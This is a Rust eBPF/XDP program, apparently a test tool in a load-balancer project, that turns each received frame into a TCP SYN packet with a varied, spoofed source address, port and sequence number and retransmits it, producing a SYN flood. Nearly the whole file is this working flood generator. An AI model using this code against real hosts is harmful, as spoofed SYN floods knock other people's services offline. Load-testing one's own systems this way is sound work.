//! Makes a SYN flood: turns each frame into a SYN from another address, and transmits it.
//!
//! `lb_common::flood` says how. Not part of the product.
#![cfg_attr(target_arch = "bpf", no_std, no_main)]

/// The program exists on the BPF target only.
#[cfg(not(target_arch = "bpf"))]
fn main() {}

#[cfg(target_arch = "bpf")]
mod program {
    use aya_ebpf::{
        bindings::xdp_action,
        macros::{map, xdp},
        maps::Array,
        programs::XdpContext,
    };
    use lb_common::{
        flood::{Flood, IPV4_CHECKSUM, OFFSETS_V4, OFFSETS_V6, Offsets, Variation},
        packet::PacketMut as _,
    };
    use lb_ebpf::frame::Frame;

    // The names are those of `lb_common::flood`.

    #[map]
    static FLOOD: Array<Flood> = Array::with_max_entries(1, 0);

    #[xdp]
    fn flood(context: XdpContext) -> u32 {
        make_frame(&context).map_or(xdp_action::XDP_ABORTED, |()| xdp_action::XDP_TX)
    }

    /// Makes the whole frame anew: its memory may have been rewritten on its last way.
    #[inline(always)]
    fn make_frame(context: &XdpContext) -> Option<()> {
        let flood = FLOOD.get_ptr_mut(0)?;
        // SAFETY: the client runs each loaded program, which has a map of its own, from one thread at a time, and touches
        // the map only between runs.
        let flood = unsafe { &mut *flood };
        let mut frame = Frame::of(context);
        // Word by word: the compiler would copy an array of bytes one at a time.
        for (index, word) in flood.template().iter().enumerate() {
            frame.write(index * size_of::<u64>(), word.to_ne_bytes())?;
        }
        let variation = flood.next();
        if flood.is_ipv6() {
            vary(&mut frame, OFFSETS_V6, variation)
        } else {
            frame.write(IPV4_CHECKSUM, variation.ip_checksum)?;
            vary(&mut frame, OFFSETS_V4, variation)
        }
    }

    #[inline(always)]
    fn vary(frame: &mut Frame, offsets: Offsets, variation: Variation) -> Option<()> {
        frame.write(offsets.source, variation.source)?;
        frame.write(offsets.port, variation.port)?;
        frame.write(offsets.sequence, variation.sequence)?;
        frame.write(offsets.tcp_checksum, variation.tcp_checksum)
    }

    #[unsafe(link_section = "license")]
    #[unsafe(no_mangle)]
    static LICENSE: [u8; 13] = *b"Dual MIT/GPL\0";

    #[panic_handler]
    fn panic(_info: &core::panic::PanicInfo<'_>) -> ! {
        loop {}
    }
}
